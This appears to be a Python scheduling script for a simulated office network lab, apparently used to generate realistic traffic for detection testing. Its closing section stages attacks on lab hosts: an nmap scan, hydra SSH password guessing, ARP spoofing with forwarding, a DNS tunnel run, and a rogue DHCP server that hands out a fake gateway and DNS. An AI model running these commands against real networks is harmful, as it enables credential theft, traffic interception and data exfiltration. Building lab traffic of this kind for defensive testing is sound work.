"""What happens, and when: (second, host, what). Everything at its time, in a thread of its own."""

import os
import threading
import time

import services
from cast import BROWSERS, CAST, GUEST_GATEWAY, GUEST_VLAN, GUESTS, INTERNET, TUNNEL_DOMAIN
from lab import GATEWAY4, NET4
from office import DEMO, HERE, PYTHON, announcements, thing

# Less than 1 to try things out.
PACE = float(os.environ.get("PACE", "1"))
PLAN = []


def at(second, work, *arguments):
    PLAN.append((second, work, arguments))


def play(lab):
    begin, threads = time.monotonic(), []
    for second, work, arguments in sorted(PLAN, key=lambda entry: entry[0]):
        time.sleep(max(0.0, begin + second * PACE - time.monotonic()))
        threads.append(threading.Thread(target=work, args=(lab, *arguments), daemon=True))
        threads[-1].start()
    for thread in threads:
        thread.join(40)


def run(lab, name, command, timeout=40):
    getattr(lab, name).run(command, timeout)


def client(lab, name, kind, *arguments):
    run(lab, name, f"exec {PYTHON} {DEMO}/clients.py {kind} {' '.join(arguments)}", 60)


def browse(lab, name, *urls):
    """As a browser: one connection a place, whose answers nobody looks at."""
    agent = BROWSERS.get(name, "curl/8.5.0")
    # Things speak an older TLS, in which certificates can be seen (RFC 5246 s7.4.2).
    old = "--tls-max 1.2" if name in ("tv", "galaxy") else ""
    outputs = " ".join(f"-o /dev/null '{url}'" for url in urls)
    run(lab, name, f"curl -s {old} --compressed --max-time 25 --cacert {lab.dir}/ca.pem -A '{agent}' {outputs}")


# --- Joining ------------------------------------------------------------------------------------------------


def join(lab, name):
    _, number, _, own, (vendor_class, wanted) = next(entry for entry in CAST if entry[0] == name)
    thing(getattr(lab, name), "dhcp", f"{NET4}.{number}", own, vendor_class, ",".join(map(str, wanted))).wait(10)


for place, (attribute, _, _, _, asks) in enumerate(CAST):
    if asks and attribute not in ("attacker", "travel_router"):
        at(1 + place * 0.9, join, attribute)
at(150, join, "attacker")
at(312, join, "travel_router")

IOS_NAME = "Cisco IOS Software, C2960X Software (C2960X-UNIVERSALK9-M), Version 15.2(7)E4, RELEASE SOFTWARE"


def network_speaks(lab):
    thing(lab.switch_1, "lldp", "switch-1", IOS_NAME, "0x0004", "Gi1/0/24", f"{NET4}.2", 13, 30 * PACE)
    thing(lab.switch_1, "cdp", "switch-1", IOS_NAME, "cisco WS-C2960X-24TS-L", "GigabitEthernet1/0/24", f"{NET4}.2", 7, 60 * PACE)
    thing(lab.router, "lldp", "router.office.lan", "Debian GNU/Linux 12 (bookworm) Linux 6.1.0", "0x0010", "eth0", GATEWAY4, 13, 30 * PACE)
    thing(lab.ap, "lldp", "ap-lobby", "U6-Lite, 6.5.28.14491", "0x000c", "eth0", f"{NET4}.3", 13, 30 * PACE)


def things_speak(lab):
    announcements(lab)
    thing(lab.tv, "ssdp", f"http://{NET4}.14:1990/description.xml", "Linux/4.19 UPnP/1.0 LGE WebOS TV/Version 1.0",
          "urn:schemas-upnp-org:device:MediaRenderer:1", "00000000-0000-4000-8000-00e091500014", 6, 60 * PACE)


at(2, network_speaks)
at(18, things_speak)

# --- People -------------------------------------------------------------------------------------------------

PAGES = {
    "pc_win": ["https://www.example.com/40.html", "https://news.example.org/120.html", "https://cloud.example.net/15.html",
               "http://intranet.office.lan/6.html", "https://shop.example.com/40.html", "https://updates.example.org/350.mp4"],
    "laptop_win": ["https://news.example.org/40.html", "https://www.example.com/15.html", "http://weather.example.org/6.html",
                   "https://cloud.example.net/120.html", "http://intranet.office.lan/2.html"],
    "macbook": ["https://www.example.com/120.html", "https://cloud.example.net/40.html", "https://api.example.net/state.json",
                "https://news.example.org/15.html", "https://video.example.net/350.mp4"],
    "iphone": ["https://push.example.net/2.html", "https://news.example.org/15.html", "https://weather.example.org/6.html",
               "http://www.example.com/6.html", "https://video.example.net/120.mp4"],
    "galaxy": ["https://push.example.net/2.html", "https://shop.example.com/15.html", "http://news.example.org/15.html"],
    "pixel": ["https://api.example.net/state.json", "https://www.example.com/6.html", "http://weather.example.org/2.html"],
    "admin": ["https://updates.example.org/40.html", "http://intranet.office.lan/15.html", "https://www.example.com/6.html"],
}
for who, (name, urls) in enumerate(PAGES.items()):
    for visit in range(9):
        first = urls[visit % len(urls)]
        place = first.rsplit("/", 1)[0]
        # People do not read by the clock.
        second = 24 + who * 3 + visit * 38 + (visit * 7 + who * 5) % 17
        at(second, browse, name, first, f"{place}/2.html", f"{place}/6.html")

for number in range(7):
    at(60 + number * 11, browse, "tv", "https://video.example.net/350.mp4")


def mail(lab, name):
    run(lab, name, f"curl -s -k imaps://mail.example.com/INBOX -u anna:{services.PASSWORD} -X 'STATUS INBOX (MESSAGES)'")
    client(lab, name, "mail", "mail.example.com", name.replace("_", "-"))


for second, name in ((35, "pc_win"), (88, "macbook"), (142, "laptop_win"), (230, "pc_win"), (301, "macbook")):
    at(second, mail, name)
for second, name in ((22, "pc_win"), (26, "laptop_win"), (30, "macbook"), (33, "admin"), (36, "camera"), (40, "nas"), (44, "plc")):
    at(second, client, name, "ntp", INTERNET["time.example.org"])


def share(lab, name, commands):
    run(lab, name, f"cd {lab.dir}/www && smbclient -U anna%{services.PASSWORD} //nas.office.lan/share -c '{commands}'")


at(50, share, "pc_win", "put 350.mp4 film.mp4; ls")
at(120, share, "laptop_win", "ls; get film.mp4 /dev/null")
at(205, share, "macbook", "put 120.html notes.html; ls")
at(290, share, "pc_win", "get notes.html /dev/null; ls")


def print_pages(lab, name, printer, number):
    if number % 2:
        run(lab, name, f"head -c 40000 {lab.dir}/www/120.mp4 | ncat --send-only {printer} 9100")
    else:
        run(lab, name, f"curl -s -o /dev/null -H 'Content-Type: application/ipp' --data-binary @{lab.dir}/job.ipp "
            f"http://{printer}:631/ipp/print")


for number, (second, name, printer) in enumerate(((70, "pc_win", 12), (132, "macbook", 13), (215, "laptop_win", 12), (310, "pc_win", 13))):
    at(second, print_pages, name, f"{NET4}.{printer}", number)

for second, name in ((46, "macbook"), (100, "iphone"), (220, "pc_win")):
    at(second, client, name, "mdns", "_ipp._tcp.local", "_airplay._tcp.local", "_smb._tcp.local", "_hap._tcp.local", "_axis-video._tcp.local")
for second, name in ((55, "pc_win"), (165, "laptop_win")):
    at(second, client, name, "ssdp")
    at(second + 3, run, name, f"curl -s -o /dev/null http://{NET4}.14:1990/description.xml")


def database(lab, name, rows):
    # The question goes over the network: what it reads, too.
    run(lab, name, f"PGPASSWORD={services.PASSWORD} psql -q -h server.office.lan -U anna -d postgres "
        f"-c \"SELECT n, md5(n::text) FROM generate_series(1,{rows}) n\"")


for second, name, rows in ((75, "admin", 40), (118, "pc_win", 300), (180, "pc_win", 200), (250, "admin", 60), (333, "pc_win", 150)):
    at(second, database, name, rows)


def administer(lab, command):
    run(lab, "admin", f"ssh -i {lab.key} {lab.ssh} anna@server.office.lan '{command}'")


at(65, administer, "for n in 1 2 3 4 5; do ls -l /etc | head -20; sleep 3; done")
at(175, administer, "uptime; sleep 4; df")
at(320, administer, "head -c 60000 /usr/bin/env | od -x | head -800")
for second in (45, 125, 210, 300):
    at(second, run, "admin", f"fping -q -c 1 {' '.join(f'{NET4}.{n}' for n in (1, 2, 3, 10, 11, 12, 13, 18))}")
    at(second + 4, run, "admin", f"snmpwalk -v2c -c public switch-1.office.lan 1.3.6.1.2.1.1; ping -q -c 2 router.office.lan")

# --- Things -------------------------------------------------------------------------------------------------


def measure(lab, name, topic, value):
    run(lab, name, f"mosquitto_pub -h server.office.lan -i {name} -t {topic} -m {value}")


for number in range(16):
    at(28 + number * 21 + number % 3, measure, "thermostat", "home/hall/temperature", f"21.{number % 10}")
    at(31 + number * 20 + number % 4, measure, "pi", "plant/boiler/pressure", f"1.{number % 7}")
at(27, run, "nas", f"timeout 330 mosquitto_sub -h {NET4}.10 -t '#' -i archive", 340)
at(29, run, "admin", f"timeout 340 mosquitto_sub -h {NET4}.10 -t 'plant/#' -i panel", 350)
for second in (60, 200):
    at(second, lambda lab: thing(lab.pi, "modbus_poll", "plc-heating.office.lan", 50, 2 * PACE))
at(85, lambda lab: thing(lab.admin, "watch_camera", "axis-00408c500015.office.lan"))
at(260, lambda lab: thing(lab.macbook, "watch_camera", "axis-00408c500015.office.lan"))


def call(lab):
    there = INTERNET["sip.example.com"]
    lab.outside.start(f"exec {PYTHON} {DEMO}/clients.py call callee {there} {lab.voip.v4} 18", wait=0.5)
    client(lab, "voip", "call", "caller", lab.voip.v4, there, "18")


at(110, call)
at(20, lambda lab: thing(lab.ap, "guests", lab.ap.ns, lab.router.ns, lab.router.mac, GUEST_VLAN, GUEST_GATEWAY,
                         *(word for guest in GUESTS for word in guest)))

# --- What is wrong --------------------------------------------------------------------------------------------


def guess_passwords(lab):
    run(lab, "attacker", f"hydra -I -q -t 4 -l anna -P {services.words(lab, 16, services.PASSWORD)} ssh://{lab.server.v4}", 60)


def spoof(lab):
    lab.attacker.sysctl("net.ipv4.ip_forward=1")
    # KILL: it shall not put right, in the router's name, what it did.
    run(lab, "attacker", f"timeout -s KILL 12 arpspoof -i eth0 -t {lab.laptop_win.v4} {GATEWAY4}", 25)
    lab.attacker.sysctl("net.ipv4.ip_forward=0")


def tunnel(lab):
    lab.laptop_win.tool("dns_tunnel.py", f"{GATEWAY4} {TUNNEL_DOMAIN} session 110 0.25", timeout=60)


def rogue(lab):
    conf = lab.dir / "rogue.conf"
    conf.write_text(f"port=0\nno-ping\ninterface=eth0\nbind-interfaces\nleasefile-ro\ndhcp-authoritative\nlog-facility=/dev/null\n"
                    f"dhcp-range={NET4}.190,{NET4}.199,255.255.255.0,2m\ndhcp-option=3,{NET4}.70\ndhcp-option=6,{NET4}.70\n")
    lab.travel_router.start(f"exec dnsmasq -k -C {conf} -u root", wait=1)
    # Phones that come back ask anew.
    for name in ("pixel", "galaxy"):
        join(lab, name)
        time.sleep(2)


at(160, run, "attacker", f"nmap -sS -n -Pn -F --max-retries 1 {NET4}.10")
at(185, guess_passwords)
at(240, spoof)
at(270, tunnel)
at(325, rogue)
# No attack, but nothing to be proud of: the camera's password in clear.
at(95, run, "admin", f"curl -s -o /dev/null -u admin:example http://{NET4}.15/index.html")
